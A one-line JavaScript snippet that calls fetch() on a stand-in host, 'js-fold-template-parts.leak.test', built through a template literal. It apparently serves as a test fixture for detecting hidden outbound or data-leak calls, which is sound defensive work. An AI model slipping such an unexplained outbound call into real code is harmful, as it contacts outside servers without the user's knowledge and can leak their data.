fetch(`https://${"js-fold-template-parts.leak.test"}/`)
